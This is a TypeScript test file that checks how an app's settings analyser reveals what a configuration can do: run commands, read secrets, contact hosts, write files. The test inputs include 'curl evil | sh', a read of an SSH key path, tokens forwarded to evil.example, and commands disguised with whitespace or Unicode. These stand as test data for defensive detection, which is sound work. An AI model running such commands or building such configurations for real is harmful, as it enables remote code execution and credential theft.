import { describe, expect, it } from 'vitest';
import type { Powers } from '../../../electron/contract/ipc.ts';
import { newPowers } from '../../../electron/core/document/powers.ts';
import type { SettingsDocument } from '../../../electron/core/document.ts';
import { providers } from '../../support/registered.ts';

const none: Powers = { runs: [], reads: [], tells: [], asks: [], writes: [] };
const cloudflare = (token: unknown) => ({ accounts: { home: { provider: 'cloudflare', token } } });
const hook = (fields: object) => ({ accounts: { hook: { provider: 'webhook', ...fields } } });
const command = (text: string) => ({ sources: { ipv4: [{ command: text }] } });

function powers(draft: SettingsDocument, present: SettingsDocument = {}): Powers {
  return newPowers(draft, present, { providers }, 'en');
}

describe('what a settings text may do', () => {
  it.each<[string, SettingsDocument, Partial<Powers>]>([
    ['nothing', {}, {}],
    ['tells a service', cloudflare('text'), { tells: ['home → Cloudflare'] }],
    ['reads a variable', cloudflare({ env: 'CF_TOKEN' }), { reads: ['$CF_TOKEN'] }],
    ['reads a file', cloudflare({ file: '/home/me/.ssh/id' }), { reads: ['/home/me/.ssh/id'] }],
    ['runs a command', command('curl evil | sh'), { runs: ['curl evil | sh'] }],
    ['runs one that is no list', { sources: { ipv6: { command: 'x' } } }, { runs: ['x'] }],
    [
      'asks a host',
      { sources: { ipv4: [{ url: 'https://a@evil.example:8443/?t=1' }, 'ipify'] } },
      { asks: ['evil.example:8443'] },
    ],
    [
      'speaks by a proxy',
      { proxy: 'http://evil.example:3128' },
      { tells: ['proxy → evil.example:3128'] },
    ],
    ['speaks by none', { proxy: 'off' }, { tells: [] }],
    ['writes a file', { log: { file: '/etc/x' } }, { writes: ['/etc/x'] }],
  ])('%s', (_, document, expected) => {
    expect(powers(document)).toMatchObject(expected);
  });

  it.each([
    ['a\u202eb\nc', 'a b⏎c'],
    [`echo${' '.repeat(5000)}; evil`, 'echo␣×5000; evil'],
    [`echo${'\u2800'.repeat(300)}; evil`, 'echo␣×300; evil'],
    [`${'x'.repeat(3000)}; evil`, `${'x'.repeat(3000)}; evil`],
  ])('hides no part of a command (%#)', (text, shown) => {
    expect(powers(command(text)).runs).toEqual([shown]);
  });

  it('is not told again for what the settings of now do already', () => {
    const document = {
      ...cloudflare({ env: 'T' }),
      sources: { ipv4: [{ command: 'x' }, { url: 'https://ip.example/' }] },
      log: { file: 'f' },
    };
    expect(powers(document, document)).toEqual(none);
  });

  /** What is read already, sent to somebody else. */
  it.each<[string, object, object, string]>([
    [
      'to another server',
      { url: 'https://good.example/', headers: { Authorization: { env: 'MY_TOKEN' } } },
      { url: 'https://evil.example/', headers: { Authorization: { env: 'MY_TOKEN' } } },
      'evil.example',
    ],
    [
      'to another server, where the one of now is kept as a secret',
      { url: { secret: 'hook/url' }, headers: { Authorization: { env: 'MY_TOKEN' } } },
      { url: 'https://evil.example/', headers: { Authorization: { env: 'MY_TOKEN' } } },
      'evil.example',
    ],
    [
      'in clear',
      { url: 'https://good.example/', headers: { Authorization: { env: 'MY_TOKEN' } } },
      { url: 'https://good.example/', body: { env: 'MY_TOKEN' } },
      'good.example',
    ],
  ])('counts as new %s', (_, now, next, host) => {
    const found = powers(hook(next), hook(now));
    expect(found.reads).toEqual(['$MY_TOKEN']);
    expect(found.tells).toEqual([`hook → ${host}`]);
  });

  it('counts as new under another account', () => {
    const present = cloudflare({ env: 'T' });
    const evil = { provider: 'dyndns2', server: 'evil.example', password: { env: 'T' } };
    const found = powers({ accounts: { ...present.accounts, evil } }, present);
    expect(found).toEqual({ ...none, reads: ['$T'], tells: ['evil → evil.example'] });
  });

  it.each<[object, string]>([
    [{ provider: 'dyndns2', preset: 'noip' }, 'noip'],
    [
      { provider: 'dyndns2', server: 'https://good.example@evil.example:8443/x' },
      'evil.example:8443',
    ],
    [{ provider: 'webhook', url: { env: 'HOOK' } }, '$HOOK'],
    [{ provider: 'webhook', url: { sealed: 'ddns1.x' } }, 'Webhook (a URL of your own)'],
    // No field of the provider's, so not where it leads.
    [
      { provider: 'powerdns', server: 'good.example', url: 'https://evil.example/' },
      'evil.example',
    ],
    [{ provider: 'unknown' }, 'unknown'],
  ])('names where an account leads: %j', (account, host) => {
    expect(powers({ accounts: { a: account } }).tells).toEqual([`a → ${host}`]);
  });

  it('may stand in a text of any form', () => {
    for (const odd of [null, 'x', 1, [], [[]], { a: null }, { a: [] }]) {
      expect(powers({ accounts: odd, sources: odd, log: odd })).toEqual(none);
    }
  });
});
